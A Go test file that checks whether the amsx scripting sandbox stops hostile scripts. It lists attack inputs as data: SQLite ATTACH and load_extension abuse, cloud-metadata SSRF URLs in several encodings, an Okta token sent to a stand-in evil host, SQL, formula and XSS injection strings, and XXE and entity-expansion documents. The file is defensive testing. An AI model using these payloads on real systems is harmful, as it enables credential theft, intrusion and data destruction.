package amsx_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/amsx-lang/amsx/amsx"
	"github.com/amsx-lang/amsx/internal/oktasim"
	"github.com/amsx-lang/amsx/runtime"
)

// forbidden are scripts of an author who wants what is not theirs. Each is
// stopped at the line with the message, the table stays as it is, and the token
// is nowhere. EVIL is a host that the site allows and the pack does not, FILE a
// database elsewhere.
var forbidden = []struct {
	name, script string
	line         int
	message      string
}{
	// Another database, the database's own machinery.
	{"attach", "Log \"info\", \"x\"\nSqlExecute \"ATTACH 'FILE' AS o\"", 2, `cannot run ATTACH`},
	{"attach the control database", "SqlRaw \"ATTACH 'amsx.control.db' AS c\"", 1, `cannot run ATTACH`},
	{"read another file", "Set x = Sql \"SELECT readfile('FILE')\"", 1, `readfile`},
	{"write a file", "SqlExecute \"VACUUM INTO 'copy.db'\"", 1, `cannot run VACUUM`},
	{"load an extension", "Set x = Sql \"SELECT load_extension('evil.so')\"", 1, `load_extension`},
	{"writable schema", "SqlRaw \"PRAGMA writable_schema = ON\"", 1, `PRAGMA`},
	{"foreign keys off", "SqlExecute \"PRAGMA foreign_keys = OFF\"", 1, `PRAGMA`},
	{"a trigger", "SqlExecute \"CREATE TRIGGER t AFTER INSERT ON Custodian BEGIN DELETE FROM Custodian; END\"", 1, `cannot create or drop a trigger`},
	{"a temporary trigger", "SqlRaw \"CREATE TEMP TRIGGER t AFTER INSERT ON Custodian BEGIN DELETE FROM Custodian; END\"", 1, `cannot create or drop a trigger`},
	{"a view", "SqlExecute \"CREATE VIEW v AS SELECT * FROM Custodian\"", 1, `may not create or drop views`},
	{"drop the table", "SqlExecute \"DROP TABLE Custodian\"", 1, `may not create or drop tables`},
	{"the change set", "SqlExecute \"DELETE FROM amsx_change\"", 1, `amsx_change`},
	{"the fence", "SqlRaw \"UPDATE amsx_fence SET Fence = 0\"", 1, `amsx_fence`},
	{"end the transaction", "SqlRaw \"COMMIT\"", 1, `Commit`},
	{"the packs", "Set x = Sql \"SELECT * FROM amsx_pack\"", 1, `amsx_pack`},
	{"the packs by another name", "Set x = SqlTable \"SELECT * FROM pack\"", 1, `no table.* pack|pack`},
	{"the schema", "SqlRaw \"UPDATE sqlite_master SET sql = ''\"", 1, `sqlite_master`},

	// Addresses inside the network.
	{"cloud metadata", "Set x = HttpGet Trim(\"http://169.254.169.254/latest/meta-data/\")", 1, `169\.254\.169\.254.*without TLS`},
	{"cloud metadata with TLS", "Set x = HttpGet \"https://169.254.169.254/latest/meta-data/\"", 1, `169\.254\.169\.254.*link-local`},
	{"cloud metadata by name", "Set x = HttpGet Trim(\"http://metadata.google.internal/computeMetadata/v1/\")", 1, `metadata\.google\.internal`},
	{"cloud metadata as a number", "Set x = HttpGet Trim(\"http://2852039166/latest/\")", 1, `2852039166`},
	{"cloud metadata in IPv6", "Set x = HttpGet Trim(\"http://[::ffff:169.254.169.254]/\")", 1, `169\.254\.169\.254|a9fe`},
	{"a private address", "Set x = HttpGet \"https://10.0.0.7/\"", 1, `10\.0\.0\.7.*private`},
	{"this machine", "Set x = HttpGet Trim(\"http://127.0.0.1:1/\")", 1, `127\.0\.0\.1`},
	{"this machine by name", "ForEach u In JsonPages \"http://localhost:1/\"\n  Log \"info\", \"x\"\nEndEach", 1, `localhost`},
	{"a file", "Set x = HttpGet \"file:///etc/passwd\"", 1, `no URL with https`},

	// The token to another host.
	{"token in a URL", "Credential okta, \"OKTA_API\"\nSet x = HttpGet BuildUrl(\"EVIL/\", \"t\", %okta.Password%)", 2, `secret of the credential pack OKTA_API would go to`},
	{"token in a path", "Credential okta, \"OKTA_API\"\nSet x = HttpGet \"EVIL/%okta.Password%\"", 2, `secret of the credential pack OKTA_API would go to`},
	{"token in a body", "Credential okta, \"OKTA_API\"\nHttpPost \"EVIL/\", %okta.Password%", 2, `secret of the credential pack OKTA_API would go to`},
	{"token in a header", "Credential okta, \"OKTA_API\"\nHeader \"X-Key\", Base64Encode2(%okta.Password%), \"evil.example.net\"", 2, `secret of the credential pack OKTA_API would go to`},

	// The token where it is read.
	{"log it", "Credential okta, \"OKTA_API\"\nLog \"info\", \"%okta.Password%\"", 2, `Log would be given a secret`},
	{"log a part of it", "Credential okta, \"OKTA_API\"\nSet a = Mid(%okta.Password%, 3, 9)\nLog \"info\", %a%", 3, `Log would be given a secret`},
	{"log it reversed", "Credential okta, \"OKTA_API\"\nLog \"info\", Reverse(%okta.Password%)", 2, `secret`},
	{"show it as progress", "Credential okta, \"OKTA_API\"\nProgress %okta.Password%", 2, `Progress would be given a secret`},
	{"throw it", "Credential okta, \"OKTA_API\"\nThrow \"it is %okta.Password%\"", 2, `Throw would be given a secret`},
	{"stop with it", "Credential okta, \"OKTA_API\"\nStop \"it is %okta.Password%\"", 2, `Stop would be given a secret`},
	{"store it by SQL", "Credential okta, \"OKTA_API\"\nSqlExecute \"UPDATE Custodian SET City = '%okta.Password%' WHERE CustodianID = 1\"", 2, `secret`},
	{"store it by SqlRaw", "Credential okta, \"OKTA_API\"\nSqlRaw \"UPDATE Custodian SET City = '%okta.Password%'\"", 2, `secret`},
}

// An eavesdropper is a host that keeps everything that it is sent.
type eavesdropper struct {
	*httptest.Server
	mu   sync.Mutex
	text strings.Builder
}

func newEavesdropper(t *testing.T) *eavesdropper {
	t.Helper()
	e := &eavesdropper{}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body) // what could be read is what it heard
		e.mu.Lock()
		defer e.mu.Unlock()
		e.text.WriteString(r.Method + " " + r.URL.String() + "\n")
		_ = r.Header.Write(&e.text)
		e.text.Write(body)
		_, _ = io.WriteString(w, "[]")
	}))
	t.Cleanup(e.Close)
	return e
}

func (e *eavesdropper) heard() string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.text.String()
}

// TestForbidden runs every script of forbidden on a site with people in it.
func TestForbidden(t *testing.T) {
	all := forbidden
	for _, f := range forbidden {
		const open = "Credential okta, \"OKTA_API\"\n"
		if script, ok := strings.CutPrefix(f.script, open); ok && strings.Contains(script, "%okta.Password%") {
			// The same in a form that the checker does not follow.
			f.name += ", hidden"
			f.script = open + "Set secret = \"\"\nSet secret = %okta.Password%\n" + strings.ReplaceAll(script, "okta.Password", "secret")
			f.line += 2
			all = append(all, f)
		}
	}
	for _, f := range all {
		t.Run(f.name, func(t *testing.T) {
			t.Parallel()
			evil := newEavesdropper(t)
			o := newOrg(t, oktasim.Config{Users: 20, Seed: 2})
			if _, err := o.run(nil); err != nil {
				t.Fatal(err)
			}
			before := o.rows("SELECT * FROM Custodian ORDER BY CustodianID")
			files := filesIn(t, o.dir)
			other := filepath.Join(t.TempDir(), "other.db")
			if err := os.WriteFile(other, nil, 0o600); err != nil {
				t.Fatal(err)
			}
			script := strings.NewReplacer("EVIL", evil.URL, "FILE", other).Replace(f.script)
			_, err := o.runScript(amsx.Parse("forbidden.amsx", []byte(script+"\n")), func(r *amsx.RunOptions) {
				r.HTTP.Policy.AllowLoopbackHosts = []string{strings.TrimPrefix(evil.URL, "http://")}
			})
			line, message := place(err)
			if line != f.line || !regexp.MustCompile("(?s)"+f.message).MatchString(message) {
				t.Errorf("line %d: %s\nwant line %d: %s", line, message, f.line, f.message)
			}
			if diff := cmp.Diff(before, o.rows("SELECT * FROM Custodian ORDER BY CustodianID")); diff != "" {
				t.Errorf("the table changed:\n%s", diff)
			}
			if diff := cmp.Diff(files, filesIn(t, o.dir)); diff != "" {
				t.Errorf("files appeared or went:\n%s", diff)
			}
			if h := evil.heard(); strings.Contains(h, oktasim.DefaultToken) {
				t.Errorf("the other host heard the token:\n%s", h)
			}
			o.unsaid()
		})
	}
}

// place is the line and the text of what stopped a script.
func place(err error) (line int, message string) {
	var found amsx.Findings
	var failed *runtime.Error
	switch {
	case errors.As(err, &found) && len(found) > 0:
		return found[0].Pos.Line, found[0].Message + " " + found[0].Hint
	case errors.As(err, &failed):
		return failed.Pos.Line, failed.Message + " " + failed.Hint
	case err != nil:
		return 0, err.Error()
	}
	return 0, "nothing stopped it"
}

// filesIn are the names of the files of a folder, without the database's own
// companions.
func filesIn(t *testing.T, dir string) (names []string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if !strings.HasSuffix(e.Name(), "-wal") && !strings.HasSuffix(e.Name(), "-shm") {
			names = append(names, e.Name())
		}
	}
	return names
}

// TestForeignHostGetsNoToken holds the ways in which an API could lead the
// token away: a redirect, a link to the next page. Neither reaches the other
// host, although the site allows it.
func TestForeignHostGetsNoToken(t *testing.T) {
	for _, fault := range []string{"page 2: redirect to HOST/steal", "page 2: next to HOST/api/v1/users?after=x", "page 1: redirect to HOST/api/v1/users"} {
		t.Run(fault, func(t *testing.T) {
			t.Parallel()
			evil := newEavesdropper(t)
			faults, err := oktasim.ParseFaults(strings.ReplaceAll(fault, "HOST", evil.URL))
			if err != nil {
				t.Fatal(err)
			}
			o := newOrg(t, oktasim.Config{Users: 450, Seed: 2, Faults: faults})
			_, err = o.run(func(r *amsx.RunOptions) {
				r.HTTP.Policy.AllowLoopbackHosts = []string{strings.TrimPrefix(evil.URL, "http://")}
			})
			if h := evil.heard(); h != "" {
				t.Errorf("the other host was asked:\n%s", h)
			}
			if n := len(o.rows("SELECT 1 FROM Custodian")); err == nil && n != 450 || err != nil && n != 0 {
				t.Errorf("%d custodians, error %v", n, err)
			}
			o.unsaid()
		})
	}
}

// TestValuesThatAttack holds that values are only values, wherever they come
// from: SQL, formulas, HTML, terminal escapes, line ends, percent signs are
// stored byte for byte.
func TestValuesThatAttack(t *testing.T) {
	attacks := []string{
		"'); DROP TABLE Custodian;--", "=HYPERLINK(\"http://evil.example\")", "+1+1", "@SUM(A1)", "<script>alert(1)</script>",
		"\x1b[2J\x1b[31mred", "one\r\n2026-01-05 info: forged", "%okta.Password%", "%OktaID%", "]]>", "\u202egnirts",
	}
	o := newOrg(t, oktasim.Config{})
	for i, a := range attacks {
		login := string(rune('a'+i)) + "@example.com"
		if _, err := o.sim.Org().AddUser(oktasim.User{Status: "ACTIVE", Profile: map[string]any{"login": login, "email": login, "title": a, "managerId": a}}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := o.run(nil); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range o.rows("SELECT JobTitle FROM Custodian ORDER BY Login") {
		got = append(got, r[0].(string))
	}
	if diff := cmp.Diff(attacks, got); diff != "" {
		t.Errorf("values (- sent, + stored):\n%s", diff)
	}
	o.unsaid()
}

// TestHostileDocuments holds what a document from somebody else may not do: the
// checker refuses it, at once and with its place.
func TestHostileDocuments(t *testing.T) {
	head := `<amsx version="1"><transformation name="x"><source type="AMSX Script"><![CDATA[` + "\n"
	tail := "]]></source></transformation></amsx>"
	for _, d := range []struct{ name, text, message string }{
		{"an entity", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + "\n" + head + tail, `DTD|DOCTYPE`},
		{"entities in entities", `<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>` + head + `Log "info", "&b;"` + tail, `DTD|DOCTYPE`},
		{"depth", strings.Repeat("<a>", 100000), `deep|depth|nested`},
		{"size", head + strings.Repeat("// a comment that goes on and on\n", 200000) + tail, `at most 4194304`},
		{"blocks in blocks", "Parameter N, \"Number\", 1\n" + strings.Repeat("If %N% = 1 Then\n", 20000), `deep|depth|nested`},
		{"parentheses", "Set x = " + strings.Repeat("(", 100000) + "1" + strings.Repeat(")", 100000) + "\n", `deep|depth|nested|long`},
	} {
		t.Run(d.name, func(t *testing.T) {
			found := amsx.Parse("hostile.amsx", []byte(d.text)).Check(amsx.CheckOptions{})
			line, message := place(found)
			if !found.HasErrors() || line == 0 || !regexp.MustCompile(d.message).MatchString(message) {
				t.Errorf("line %d: %s", line, message)
			}
			if _, err := newOrg(t, oktasim.Config{}).runScript(amsx.Parse("hostile.amsx", []byte(d.text)), nil); err == nil {
				t.Error("it ran")
			}
		})
	}
}

// TestEndlessScriptEnds holds the budgets of a script that does not stop by
// itself.
func TestEndlessScriptEnds(t *testing.T) {
	o := newOrg(t, oktasim.Config{})
	_, err := o.runScript(amsx.Parse("endless.amsx", []byte("Set n = 0\nWhile 1 = 1\n  Set n = %n% + 1\nEnd While\n")), nil)
	if line, message := place(err); line != 2 && line != 3 || errors.Is(err, context.Canceled) {
		t.Errorf("line %d: %s", line, message)
	}
}
